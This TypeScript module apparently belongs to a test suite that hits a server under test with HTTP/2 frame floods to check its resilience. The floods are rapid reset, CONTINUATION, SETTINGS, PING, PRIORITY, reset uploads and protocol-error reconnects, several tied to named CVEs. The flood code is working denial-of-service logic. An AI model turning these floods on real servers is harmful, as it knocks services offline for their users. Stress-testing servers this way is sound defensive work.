// HTTP/2 frame floods from hand-written frames (support/h2-raw.ts), each on several connections
// at once, re-connecting whenever the server ends one: what nghttp2 (Node's HTTP/2 library) and
// the server must shrug off while another client is served.
// - rapid reset (CVE-2023-44487): a request, then its RST_STREAM at once, thousands a second;
// - reset uploads: a POST's head and part of its body, then RST_STREAM (the client gives up on
//   the upload): a client going away is no error of the server's, and must not be logged as one;
// - SETTINGS and PING floods: frames that each ask for an ACK;
// - CONTINUATION flood (CVE-2024-27983 and kin): a header block that never ends;
// - PRIORITY flood: each frame rebuilds the priority tree (CVE-2019-9513's kind);
// - protocol errors: connections that each send one forbidden frame (the server ends them with
//   GOAWAY; Node then kept their sockets open in CLOSE-WAIT: session-sweep.ts).

import { connectH2, FLAG, frame, FRAME, headerBlock, requestHeaders, type RawH2 } from '../support/h2-raw.js';
import { measureAttack, type AttackFigures } from '../support/measure.js';
import type { Target } from '../support/target.js';

export type Flood = 'rapid-reset' | 'reset-uploads' | 'settings' | 'ping' | 'continuation' | 'priority' | 'protocol-errors';

export interface FloodOptions {
  flood: Flood;
  connections?: number;
  durationMs: number;
}

export interface FloodFigures extends AttackFigures {
  /** Frames written, connections opened, and how the server ended them (GOAWAY error codes). */
  frames: number;
  opened: number;
  goaways: Record<string, number>;
}

const SC = '/apis/networking.platform.io/v1/servicecidrs';
const CANCEL = 8;
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** One batch of the flood's frames for a connection; `next` hands out its stream ids. */
function batch(flood: Flood, token: string, next: () => number): { frames: Buffer[]; later?: Buffer[] } {
  const frames: Buffer[] = [];
  switch (flood) {
    case 'rapid-reset':
      for (let i = 0; i < 50; i++) {
        const id = next();
        frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestHeaders(SC, token)), frame(FRAME.RST_STREAM, 0, id, u32(CANCEL)));
      }
      return { frames };
    case 'reset-uploads': {
      const later: Buffer[] = [];
      for (let i = 0; i < 20; i++) {
        const id = next();
        frames.push(
          frame(FRAME.HEADERS, FLAG.END_HEADERS, id, requestHeaders(SC, token, 'POST', [['content-type', 'application/json'], ['content-length', '1000']])),
          frame(FRAME.DATA, 0, id, Buffer.from('{"apiVersion":"networking.platform.io/v1","kind":"ServiceCIDR",')),
        );
        later.push(frame(FRAME.RST_STREAM, 0, id, u32(CANCEL)));
      }
      return { frames, later };
    }
    case 'settings':
      // SETTINGS_ENABLE_PUSH = 0, again and again: each must be ACKed.
      for (let i = 0; i < 100; i++) frames.push(frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 2, 0, 0, 0, 0])));
      return { frames };
    case 'ping':
      for (let i = 0; i < 100; i++) frames.push(frame(FRAME.PING, 0, 0, Buffer.alloc(8, i)));
      return { frames };
    case 'continuation': {
      // A header block begun and never ended: CONTINUATION frames of a header field each.
      const id = next();
      frames.push(frame(FRAME.HEADERS, 0, id, requestHeaders(SC, token)));
      for (let i = 0; i < 100; i++) frames.push(frame(FRAME.CONTINUATION, 0, id, headerBlock([[`x-filler-${i}`, 'y'.repeat(1000)]])));
      return { frames };
    }
    case 'priority':
      // Each new (idle) stream made the exclusive parent of the one before, weight 255: the
      // priority tree rebuilt at every frame (CVE-2019-9513's kind).
      for (let i = 0; i < 100; i++) {
        const id = next();
        frames.push(frame(FRAME.PRIORITY, 0, id, Buffer.concat([u32((0x80000000 | (id > 2 ? id - 2 : 0)) >>> 0), Buffer.from([255])])));
      }
      return { frames };
    case 'protocol-errors':
      // One frame the protocol forbids (a stream depending on itself): nghttp2 ends the
      // connection with GOAWAY PROTOCOL_ERROR, and the attacker makes a new one.
      return { frames: [frame(FRAME.PRIORITY, 0, 1, Buffer.from([0x80, 0, 0, 1, 255]))] };
  }
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
}

async function flood(server: Target, o: FloodOptions, stats: { frames: number; opened: number; goaways: Record<string, number> }, running: () => boolean): Promise<void> {
  while (running()) {
    let raw: RawH2;
    try {
      raw = await connectH2(server.port, server.caCertPem);
    } catch {
      await sleep(50);
      continue;
    }
    stats.opened++;
    let id = 1;
    const next = (): number => ((id += 2), id - 2);
    let open = true;
    void raw.closed.then(() => (open = false));
    // Until the server ends the connection or sends GOAWAY (a real attacker then re-connects).
    while (running() && open && raw.goawayCode === undefined && id < 2 ** 31 - 1000) {
      const b = batch(o.flood, server.attackerToken, next);
      stats.frames += b.frames.length + (b.later?.length ?? 0);
      const ok = raw.write(Buffer.concat(b.frames));
      if (b.later) {
        await sleep(5);
        raw.write(Buffer.concat(b.later));
      }
      // The GOAWAY comes at once; the attacker closes its end and makes another connection.
      if (o.flood === 'protocol-errors') await Promise.race([raw.closed, sleep(50)]);
      else if (!ok) await Promise.race([new Promise((r) => raw.socket.once('drain', r)), raw.closed, sleep(1000)]);
      else await new Promise((r) => setImmediate(r));
    }
    const ended = !open || raw.goawayCode !== undefined;
    const code = raw.goawayCode === undefined ? 'closed without GOAWAY' : `GOAWAY ${raw.goawayCode}`;
    if (ended) stats.goaways[code] = (stats.goaways[code] ?? 0) + 1;
    raw.socket.destroy();
    // A connection the server ended: a moment before the next, as a real attacker's reconnect takes.
    if (ended) await sleep(20);
  }
}

export async function h2Flood(server: Target, o: FloodOptions): Promise<FloodFigures> {
  const stats = { frames: 0, opened: 0, goaways: {} as Record<string, number> };
  const figures = await measureAttack({
    name: `HTTP/2 ${o.flood} flood on ${o.connections ?? 4} connections`,
    server,
    durationMs: o.durationMs,
    start: () => {
      let running = true;
      const workers = Array.from({ length: o.connections ?? 4 }, () => flood(server, o, stats, () => running));
      return {
        stop: async () => {
          running = false;
          await Promise.all(workers);
        },
      };
    },
  });
  return { ...figures, ...stats };
}

export const formatFlood = (x: FloodFigures): string => `  ${x.frames} frames on ${x.opened} connections; the server ended them: ${JSON.stringify(x.goaways)}`;
